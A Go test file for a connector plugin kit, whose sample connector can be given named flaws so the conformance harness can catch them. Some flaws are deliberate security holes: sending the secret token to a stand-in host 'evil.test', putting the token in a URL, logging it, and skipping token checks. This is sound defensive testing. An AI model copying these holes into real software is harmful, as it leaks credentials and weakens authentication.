package pdktest_test

import (
	"encoding/json"
	"errors"
	"os"
	"slices"
	"strconv"

	"github.com/seed75a60ee1/patchbay/pdk"
	"github.com/seed75a60ee1/patchbay/pdk/contract"
	"github.com/seed75a60ee1/patchbay/pdk/contract/manifest"
	"github.com/seed75a60ee1/patchbay/pdk/payload"
	"github.com/seed75a60ee1/patchbay/pdk/pdktest"
)

// acme is a connector as it should be, unless it is given a flaw.
type acme struct{ flaw string }

var (
	_ pdk.Router        = acme{}
	_ pdk.MessageSender = acme{}
	_ pdk.HealthChecker = acme{}
)

func (c acme) Route(h pdk.Host, in *contract.RouteInput) (*contract.RouteOutput, error) {
	body, err := h.DeliveryBody()
	if err != nil {
		return nil, err
	}
	refused := &contract.RouteOutput{Rejected: &contract.Rejection{Code: "malformed"}, Response: contract.Response{Status: 400}}
	doc, err := payload.Parse(body, payload.Limits{})
	switch {
	case c.flaw == "routes nothing":
		return refused, nil
	case c.flaw == "answers whatever comes" && err != nil:
		return &contract.RouteOutput{Answered: true, Response: contract.Response{Status: 200}}, h.KVPut(contract.KVPut{Key: "seen", Value: "x"})
	case err != nil || doc.String("account") == "":
		return refused, nil
	case c.flaw == "routes the forged" || doc.String("token") != "forged":
		return &contract.RouteOutput{Key: doc.String("account")}, nil
	case c.flaw == "answers the forged":
		return &contract.RouteOutput{Answered: true, Response: contract.Response{Status: 204}}, nil
	}
	return refused, nil
}

func reject(status int64, code string) (*contract.ReceiveOutput, error) {
	return &contract.ReceiveOutput{Response: contract.Response{Status: status}, Rejected: &contract.Rejection{Code: code}}, nil
}

func (c acme) Receive(h pdk.Host, in *contract.ReceiveInput) (*contract.ReceiveOutput, error) {
	body, err := h.DeliveryBody()
	if err != nil {
		return nil, err
	}
	if c.flaw == "parses leniently" {
		return c.lenient(h, body)
	}
	doc, err := payload.Parse(body, payload.Limits{})
	chat, text, token := doc.String("chat"), doc.Object("data").String("text"), doc.String("token")
	switch {
	case err == nil:
		err = doc.Err()
	case c.flaw == "fails on malformed bodies":
		return nil, err
	case c.flaw == "rejects with 500":
		return reject(500, "malformed")
	}
	if err != nil || chat == "" || text == "" {
		return reject(400, "malformed")
	}
	genuine, err := h.SecretEqual("token", token)
	if err != nil && c.flaw != "trusts what it cannot verify" {
		return nil, err
	}
	if !genuine && err == nil && c.flaw != "verifies nothing" {
		return reject(401, "token_mismatch")
	}
	if c.flaw == "refuses unknown fields" && len(doc.Names()) > 4 {
		return reject(400, "unknown_field")
	}
	return c.received(h, in, chat, text, token)
}

func (c acme) received(h pdk.Host, in *contract.ReceiveInput, chat, text, token string) (*contract.ReceiveOutput, error) {
	switch c.flaw {
	case "logs the token":
		h.Log(pdk.LogInfo, "delivery", "token", token)
	case "keeps the token":
		if err := h.KVPut(contract.KVPut{Key: "token", Value: token}); err != nil {
			return nil, err
		}
	case "calls out":
		if _, err := h.HTTPSend(contract.HTTPRequest{Method: "GET", URL: "https://files.acme.test/"}); err == nil {
			text += "!"
		}
	case "panics":
		var none *contract.Part
		text = none.Fallback
	case "answers with status 0":
		return new(contract.ReceiveOutput), nil
	}
	if err := h.KVPut(contract.KVPut{Key: "chat/" + chat, Value: "known"}); err != nil {
		return nil, err
	}
	m := &contract.Message{
		Conversation: contract.Conversation{ID: contract.ConversationID(chat)},
		Author:       contract.Author{Role: contract.RoleAgent},
		Parts:        []contract.Part{{Kind: contract.PartText, Text: &contract.Text{Plain: text}}},
	}
	event := contract.Event{Kind: contract.EventMessageCreated, Message: m}
	if c.flaw == "names a kind without its field" {
		event.Kind = contract.EventTyping
	}
	return &contract.ReceiveOutput{Response: contract.Response{Status: 200}, Events: []contract.Event{event}}, nil
}

// lenient reads a body as encoding/json does.
func (c acme) lenient(h pdk.Host, body []byte) (*contract.ReceiveOutput, error) {
	var doc struct {
		Chat, Token string
		Data        struct{ Text any }
	}
	if json.Unmarshal(body, &doc) != nil {
		return reject(400, "malformed")
	}
	if genuine, err := h.SecretEqual("token", doc.Token); err != nil || !genuine {
		return reject(401, "token_mismatch")
	}
	return c.received(h, nil, doc.Chat, "text", doc.Token)
}

func (c acme) SendMessage(h pdk.Host, in *contract.SendMessageInput) (*contract.CommandOutput, error) {
	if c.flaw == "puts every message off" {
		return failed(contract.FailureRetry, "not_yet"), nil
	}
	text, outcomes := c.flatten(in.Message.Parts)
	if failure := c.refuse(in, outcomes); failure != nil {
		return &contract.CommandOutput{Failure: failure}, nil
	}
	if c.flaw != "passes placeholders on" {
		text = pdk.Inert(text)
	}
	body, _ := json.Marshal(map[string]string{"token": pdk.Secret("token"), "text": text})
	request := contract.HTTPRequest{Method: "POST", URL: in.Connection.Settings["company_url"] + "/api/send", Body: string(body)}
	switch c.flaw {
	case "sends elsewhere":
		request.URL = "https://evil.test/api/send"
	case "sends a secret where it may not go":
		request = contract.HTTPRequest{Method: "GET", URL: "https://files.acme.test/?t=" + pdk.Secret("token")}
	case "sends an unknown secret":
		request.Body = `{"token":"{{secret:tokn}}"}`
	}
	answer, err := h.HTTPSend(request)
	if err != nil && c.flaw != "takes silence for success" {
		return failed(contract.FailureRetry, "platform_unavailable"), nil
	}
	if err == nil && answer.Status != 200 && c.flaw != "takes every answer for success" {
		return failed(contract.FailureRetry, "status_"+strconv.FormatInt(answer.Status, 10)), nil
	}
	if c.flaw == "says nothing" {
		return nil, nil
	}
	return &contract.CommandOutput{Sent: &contract.Sent{PlatformID: "m1", Status: contract.MessageSent, Parts: outcomes}}, nil
}

// flatten makes one text of a message: acme carries no files, and refuses places.
func (c acme) flatten(parts []contract.Part) (text string, outcomes []contract.PartOutcome) {
	for i, p := range parts {
		o := contract.PartOutcome{Index: int64(i), Fate: contract.PartConverted, Note: "Sent as text."}
		switch p.Kind {
		case contract.PartText:
			text += p.Text.Plain
			o = contract.PartOutcome{Index: int64(i), Fate: contract.PartNative}
		case contract.PartMedia:
			o.Fate, o.Note = contract.PartDropped, "Acme carries no files."
			if c.flaw == "has no voice" && p.Media.Kind == contract.MediaVoice {
				o.Fate = contract.PartConverted
			}
			if c.flaw == "drops without a word" {
				o.Note = ""
			}
		case contract.PartLocation:
			o.Fate, o.Note = contract.PartRejected, "Acme refuses places."
		case contract.PartCard:
			if c.flaw == "grades wrongly" {
				o.Fate = contract.PartNative
			}
			text += p.Fallback
		default:
			text += p.Fallback
		}
		if c.flaw != "forgets choices" || p.Kind != contract.PartChoice {
			outcomes = append(outcomes, o)
		}
	}
	return text, outcomes
}

// refuse is why a message is not sent; nil if it is.
func (c acme) refuse(in *contract.SendMessageInput, outcomes []contract.PartOutcome) *contract.Failure {
	f := &contract.Failure{Class: contract.FailurePermanent, Code: "part_refused"}
	fault := false
	for _, o := range outcomes {
		if in.Strict && o.Fate != contract.PartNative && c.flaw != "is never strict" {
			o.Fate = contract.PartRejected
		}
		fault = fault || o.Fate == contract.PartRejected
		f.Parts = append(f.Parts, o)
	}
	switch {
	case c.flaw == "is stricter than it says" && in.Strict:
	case !fault, c.flaw == "sends what it rejects":
		return nil
	}
	if c.flaw == "refuses without a word" {
		f.Parts = nil
	}
	return f
}

func failed(class contract.FailureClass, code string) *contract.CommandOutput {
	return &contract.CommandOutput{Failure: &contract.Failure{Class: class, Code: code}}
}

func (c acme) CheckHealth(h pdk.Host, in *contract.CheckHealthInput) (*contract.CommandOutput, error) {
	if c.flaw == "fails as a command" {
		return nil, errors.New("not today")
	}
	answer, err := h.HTTPSend(contract.HTTPRequest{Method: "GET", URL: in.Connection.Settings["company_url"] + "/api/me"})
	if c.flaw == "ignores errors" {
		return &contract.CommandOutput{Health: &contract.Health{CredentialsValid: answer.Status == 200}}, nil
	}
	if err != nil {
		return failed(contract.FailureRetry, "platform_unavailable"), nil
	}
	return &contract.CommandOutput{Health: &contract.Health{CredentialsValid: answer.Status == 200}, Capabilities: c.capabilities()}, nil
}

// capabilities is what a connection carries; nil leaves it to the manifest.
func (c acme) capabilities() []contract.Capability {
	data, err := os.ReadFile("testdata/plugin.yaml")
	if err != nil {
		panic(err)
	}
	m, err := manifest.ParseYAML(data)
	if err != nil {
		panic(err)
	}
	told := m.Capabilities
	switch c.flaw {
	default:
		return nil
	case "forgets a feature":
		return slices.DeleteFunc(told, func(c contract.Capability) bool { return c.Feature == "contact" })
	case "promises too much":
		return append(told, contract.Capability{Feature: "reaction", Support: contract.SupportFull})
	case "repeats itself":
		return append(told, contract.Capability{Feature: "text", Support: contract.SupportFull})
	case "promises otherwise":
		told = slices.DeleteFunc(told, func(c contract.Capability) bool { return c.Feature == "text" })
		return append(told, contract.Capability{Feature: "text", Support: contract.SupportFallback})
	}
}

// acmeCase is the case of a connector.
func acmeCase(c pdk.Connector) pdktest.Case {
	const genuine = `{"token":"{{secret:token}}","chat":"c1","data":{"text":"hello","lang":"en"},"n":1}`
	message := contract.Message{
		Conversation: contract.Conversation{ID: "c1"}, Author: contract.Author{Role: contract.RoleCustomer},
		Parts: []contract.Part{{Kind: contract.PartText, Text: &contract.Text{Plain: "hi"}}},
	}
	return pdktest.Case{
		Connector: c, Manifest: "testdata/plugin.yaml",
		Settings: map[string]string{"company_url": "https://acme.test"},
		Deliveries: []pdktest.Delivery{
			{Name: "a message", Body: genuine},
			{Name: "a stranger's message", Forged: true, Body: `{"token":"guess","chat":"c1","data":{"text":"hello"}}`},
			{Name: "a message for the app", Routed: true, Body: `{"account":"a1"}`},
			{Name: "a forged message for the app", Routed: true, Forged: true, Body: `{"account":"a1","token":"forged"}`},
		},
		Commands: []pdktest.Command{
			{Name: "a text", Input: &contract.SendMessageInput{Message: message}},
			{Name: "a probe", Input: new(contract.CheckHealthInput)},
		},
		Prepare: func(h *pdktest.Host) {
			h.Answer("POST", "/api/send", pdktest.JSON(200, `{}`))
			h.Answer("GET", "/api/me", pdktest.JSON(200, `{}`))
		},
	}
}
